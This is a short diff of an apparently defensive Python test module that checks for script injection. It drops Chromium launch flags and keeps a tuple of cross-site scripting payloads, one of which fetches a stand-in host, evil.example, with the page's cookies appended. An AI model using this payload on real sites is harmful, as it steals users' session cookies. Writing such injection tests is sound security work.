@@ -19,9 +19,6 @@ from tests.factories import HEADER, NUMBER, donor_number, send_back, version_of,
 from tests.integration.server import served
 from tests.web.actors import House, house
 
-CHROMIUM = "/usr/bin/chromium"
-FLAGS = ("--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage")
-
 #: What a script would do: leave a sign, or knock at another house.
 DEEDS = ("window.hit=1", "alert(1)", "fetch('//evil.example/'+document.cookie)")
 #: How it could get in; {} is the deed.
